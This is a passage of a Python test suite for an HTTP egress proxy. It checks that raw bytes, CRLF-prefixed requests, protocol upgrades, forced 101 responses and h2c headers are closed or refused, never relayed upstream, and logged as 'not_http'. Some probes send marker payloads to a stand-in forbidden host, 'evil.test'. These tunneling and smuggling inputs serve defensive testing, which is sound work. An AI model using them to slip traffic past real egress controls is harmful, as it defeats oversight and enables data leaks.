        "ca": str(env.proxy_ca),
        "parts": list(parts),
        "wait": wait,
    }
    r = env.python(RAW_PROBE, json.dumps(spec))
    out = r.stdout.splitlines()
    assert out[-1:] == ["PROBE-END"], (r.stdout, r.stderr)  # the probe ran to its end
    return json.loads(out[-2])


def upstream_records(env: Env, since: float) -> list[dict[str, Any]]:
    time.sleep(0.3)  # a relayed connection's records are written as it ends
    return [x for x in read_records(env.records) if x["t"] >= since]


def assert_not_http_line(
    line: dict[str, Any], *, scheme: str, host: str, port: int, mode: str = "enforce"
) -> None:
    assert line["reason"] == "not_http", line
    assert line["action"] == "BLOCK" and line["violation"] is False
    assert line["mode"] == mode and line["status"] is None
    assert (line["scheme"], line["host"], line["port"]) == (scheme, host, port), line
    assert line["method"] is None and line["path"] is None and line["http_version"] is None
    assert line["rule"] is None and line["bytes_out"] == 0 and line["bytes_in"] == 0


def raw_payload(kind: str, marker: str, host: str) -> str:
    if kind == "bytes":  # not HTTP at all (mitmproxy's guess says so too)
        return f"\x00\x01\x02 {marker} binary\n"
    # One CRLF before an otherwise valid request: mitmproxy's guess calls it not HTTP.
    return f"\r\nGET /repos/{marker} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"


@pytest.mark.parametrize("target", ["allowed", "forbidden"])
@pytest.mark.parametrize("family", ["v4", "v6"])
@pytest.mark.parametrize(
    ("kind", "tls"), [("bytes", False), ("crlf", False), ("bytes", True), ("crlf", True)]
)
def test_not_http_is_closed_never_relayed_and_logged(
    env: Env, kind: str, tls: bool, family: str, target: str
):
    """Bytes that are not an HTTP request (or a request after a CRLF), plain or inside
    TLS, to an address a rule allows or not: closed by the interceptor, nothing reaches
    the upstream, one not_http line."""
    addr = env.raw_targets[family, target]
    name = "api.github.com" if target == "allowed" else "evil.test"
    marker = f"RAW{secrets.token_hex(6)}"
    port, sni = (443, name) if tls else (80, None)
    before, since = env.mark(), time.time()
    result = probe(env, addr, port, [raw_payload(kind, marker, name)], sni=sni)
    assert result["connected"], result
    if tls:
        assert result["tls"], result  # the interceptor did the handshake
    assert result["closed"] and result["got"] == "", result  # closed, no answer from anyone
    seen = upstream_records(env, since)
    assert not [x for x in seen if x["local"] in env.raw_targets.values()], seen
    assert not [x for x in seen if marker in x.get("data", "")], seen
    [line] = env.new_lines(before, 1)
    host = name if tls else str(ipaddress.ip_address(addr))
    assert_not_http_line(line, scheme="https" if tls else "http", host=host, port=port)
    errors = env.interceptor_err.read_text()
    assert "has crashed" not in errors and "Traceback" not in errors


@pytest.mark.parametrize(
    ("mode", "logged"),
    [(Mode.MONITOR, True), (Mode.ALLOW_ALL, True), (Mode.ALLOW_ALL, False)],
)
def test_not_http_is_closed_in_every_mode(env: Env, mode: Mode, logged: bool):
    """Monitor and allow-all cannot judge it either: closed, and logged when the mode logs."""
    try:
        env.reload(Policy.build(mode, logged, enforce_policy().rules, CONFIG))
        addr = env.raw_targets["v4", "allowed"]
        marker = f"RAW{secrets.token_hex(6)}"
        before, since = env.mark(), time.time()
        result = probe(env, addr, 80, [raw_payload("bytes", marker, "")])
        assert result["closed"] and result["got"] == "", result
        seen = upstream_records(env, since)
        assert not [x for x in seen if x["local"] == addr or marker in x.get("data", "")], seen
        lines = env.new_lines(before, 1 if logged else 0)
        for line in lines:
            assert_not_http_line(line, scheme="http", host=addr, port=80, mode=mode.value)
    finally:
        env.reload(enforce_policy())


@pytest.mark.parametrize("tls", [False, True])
def test_upgrade_to_another_protocol_is_refused_before_upstream(env: Env, tls: bool):
    """`Upgrade: x` to an allowed host: a 403 naming not_http; the request never reaches
    the upstream (which would answer 101 and relay raw bytes)."""
    marker = f"UP{secrets.token_hex(6)}"
    request = (
        f"GET /up/{marker} HTTP/1.1\r\nHost: git.test\r\n"
        "Upgrade: x-tunnel\r\nConnection: Upgrade\r\n\r\n"
    )
    before, since = env.mark(), time.time()
    result = probe(
        env,
        env.topo.net_ip,
        443 if tls else 80,
        [request, f"AFTER-{marker}\n"],
        sni="git.test" if tls else None,
        wait=1.0,
    )
    got = result["got"]
    assert got.startswith("HTTP/1.1 403"), result
    head, _, body = got.partition("\r\n\r\n")
    assert "X-Secure-Proxy-Decision: block; reason=not_http" in head, head
    assert body.startswith(f"BLOCKED: GET {'https' if tls else 'http'}://git.test/up/{marker}")
    assert "reason: not_http" in body and "UPSTREAM-RAW" not in got
    seen = upstream_records(env, since)
    assert not [x for x in seen if marker in x.get("data", "")], seen
    [line] = env.new_lines(before, 1)
    assert line["reason"] == "not_http" and line["action"] == "BLOCK"
    assert line["status"] == 403 and line["path"] == f"/up/{marker}"
    assert line["method"] == "GET" and line["host"] == "git.test"


@pytest.mark.parametrize("tls", [False, True])
def test_101_without_websocket_is_closed_and_nothing_relayed(env: Env, tls: bool):
    """An allowed request the upstream answers with 101 anyway: the connection is closed
    before the client sees the 101, and what the client sends next never arrives."""
    marker = f"SW{secrets.token_hex(6)}"
    request = f"GET /force101/{marker} HTTP/1.1\r\nHost: git.test\r\n\r\n"
    before, since = env.mark(), time.time()
    result = probe(
        env,
        env.topo.net_ip,
        443 if tls else 80,
        [request, f"AFTER-{marker}\n"],
        sni="git.test" if tls else None,
        wait=1.0,
    )
    assert result["closed"], result
    assert "101" not in result["got"] and "UPSTREAM-RAW" not in result["got"], result
    seen = upstream_records(env, since)
    arrived = "".join(x.get("data", "") for x in seen)
    assert f"/force101/{marker}" in arrived  # the judged request did go out
    assert f"AFTER-{marker}" not in arrived, seen  # nothing after the 101
    [line] = env.new_lines(before, 1)
    assert line["reason"] == "not_http" and line["action"] == "BLOCK"
    assert line["status"] is None and line["path"] == f"/force101/{marker}"


def test_h2c_upgrade_headers_never_reach_upstream(env: Env):
    """h2c is dropped, as mitmproxy does, but before a streamed body sends the headers:
    the request is judged and answered as plain HTTP/1.1."""
    marker = f"HC{secrets.token_hex(6)}"
    request = (
        f"POST /h2c/{marker} HTTP/1.1\r\nHost: git.test\r\nContent-Length: 5\r\n"
        "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
        "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\nhello"
    )
    before, since = env.mark(), time.time()
    result = probe(env, env.topo.net_ip, 80, [request, f"AFTER-{marker}\n"], wait=1.0)
    got = result["got"]
    assert got.startswith("HTTP/1.1 200"), result
    seen = json.loads(got.partition("\r\n\r\n")[2].splitlines()[0])
    assert seen["upgrade"] is None and seen["body_len"] == 5, seen
    arrived = "".join(x.get("data", "") for x in upstream_records(env, since))
    assert f"/h2c/{marker}" in arrived  # the judged request went out...
    assert "upgrade:" not in arrived.lower() and "http2-settings" not in arrived.lower()
    assert f"AFTER-{marker}" not in arrived
    [line] = env.new_lines(before, 1)
    assert line["reason"] == "rule_match" and line["status"] == 200


# --------------------------------------------------------------------------- the log as a whole


def test_zz_every_log_line_valid_and_clean(env: Env):
    schema = json.loads(schema_path().read_text())
    text = env.log_file.read_text()
    lines = text.splitlines()
    assert len(lines) > 30
    records = [json.loads(line) for line in lines]
    for record in records:
        jsonschema.validate(record, schema)
        assert (record["kind"], record["v"]) == ("http", 1)
    # Every request has its start line, before its end line, with the same request.
    starts = {r["id"]: (i, r) for i, r in enumerate(records) if r["phase"] == "start"}
    assert len(starts) == sum(r["phase"] == "start" for r in records)  # one per id
    same = ("ts", "method", "scheme", "host", "port", "path", "http_version")
    for i, end in enumerate(records):
        if end["phase"] != "end" or (end["method"] is None and end["id"] not in starts):
            continue  # a start line, or a connection closed before any request (no start)
        where, start = starts.pop(end["id"])
        assert where < i and [start[k] for k in same] == [end[k] for k in same], (start, end)
    assert not starts, starts  # and an end line for each: nothing was in flight
    assert SECRET not in text
    assert "?" not in text
    # User-Agent and other header values of the clients above
    for value in ("curl/7", "node", "Python-urllib/", "git/2.", "pip/2", "Upgrade", "websocket"):
        assert value not in text, value
